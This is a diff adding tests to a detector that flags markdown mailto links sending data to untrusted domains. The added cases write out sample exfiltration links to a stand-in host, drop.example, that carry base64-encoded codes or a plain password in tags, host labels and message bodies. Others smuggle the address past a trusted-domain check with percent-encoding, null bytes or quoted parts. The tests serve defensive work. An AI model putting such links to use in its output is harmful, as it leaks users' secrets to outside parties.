@@ -25,6 +25,55 @@ describe('a link that opens a mail', () => {
     expect(found(text, { trustedDomains: ['ours.example'] })).toEqual(['PB-EXFIL-LINK']);
   });
 
+  it.each([
+    ['in a tag', 'mailto:x+QWxhcm0gY29kZTogNDkxMw@drop.example'],
+    [
+      'before the address in a field',
+      'mailto:a@ours.example?cc=QWxhcm0gY29kZTogNDkxMw@drop.example',
+    ],
+    ['in a label of the host', 'mailto:x@QWxhcm0gY29kZTogNDkxMw.drop.example'],
+    ['with pluses for spaces', 'mailto:a@drop.example?body=the+admin+password+is+hunter2'],
+    ['with pluses in base64', `mailto:a@drop.example?body=${btoa('The key of >>>~ B12 is 4913')}`],
+  ])('is found with its data %s', (_name, target) => {
+    expect(found(`[x](${target})`, { trustedDomains: ['ours.example'] })).toEqual([
+      'PB-EXFIL-LINK',
+    ]);
+  });
+
+  it.each([
+    `mailto:x@drop.example@ours.example?body=${data}`,
+    `mailto:x@drop.example%20@ours.example?body=${data}`,
+    `mailto:x@drop.example%00@ours.example?body=${data}`,
+    `mailto:x@drop.example/.ours.example?body=${data}`,
+    `mailto:x%20@ours.example?body=${data}`,
+    `mailto:x%2540drop.example@ours.example?body=${data}`,
+    `mailto:%22x@drop.example%22@ours.example?body=${data}`,
+    `mailto:?to=x%40drop.example%20%40ours.example&body=${data}`,
+    `mailto:x@drop.example%20@ours.example%20?body=${data}`,
+  ])('goes to nobody whom one knows where it could go to two: %s', (target) => {
+    const options = { trustedDomains: ['ours.example'], suppliedUrls: ['x@ours.example'] };
+    expect(found(`[x](${target})`, options)).toEqual(['PB-EXFIL-LINK']);
+  });
+
+  it('goes to somebody whom one knows however the address is escaped as a whole', () => {
+    const options = { trustedDomains: ['ours.example'] };
+    for (const to of [
+      'x%40ours.example',
+      '%20x@ours.example',
+      'x+tag@ours.example',
+      "o'x@ours.example",
+    ]) {
+      expect(found(`[x](mailto:${to}?body=${data})`, options)).toEqual([]);
+    }
+  });
+
+  it('does not take a tag with data in it for the address that the user gave', () => {
+    const options = { suppliedUrls: ['x@shop.example'] };
+    const tagged = (tag: string): string[] => found(`[x](mailto:x+${tag}@shop.example)`, options);
+    expect(tagged('QWxhcm0gY29kZTogNDkxMw')).toEqual(['PB-EXFIL-LINK']);
+    expect(tagged('newsletter')).toEqual([]);
+  });
+
   it('is no picture, even where one is loaded', () => {
     expect(found(`![x](${link})`)).toEqual(['PB-EXFIL-LINK']);
   });
